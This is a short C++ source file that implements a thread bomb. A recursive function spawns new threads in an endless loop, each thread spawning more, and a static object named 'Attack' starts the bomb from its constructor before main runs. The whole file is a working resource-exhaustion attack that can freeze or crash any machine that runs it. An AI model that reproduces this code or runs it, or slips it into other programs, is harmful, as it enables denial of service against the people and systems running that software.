// Threads without end.
#include <pthread.h>
static void *bomb(void *) {
    for (pthread_t thread;;)
        pthread_create(&thread, NULL, bomb, NULL);
}
static struct Attack {
    Attack() { bomb(NULL); }
} before_main;
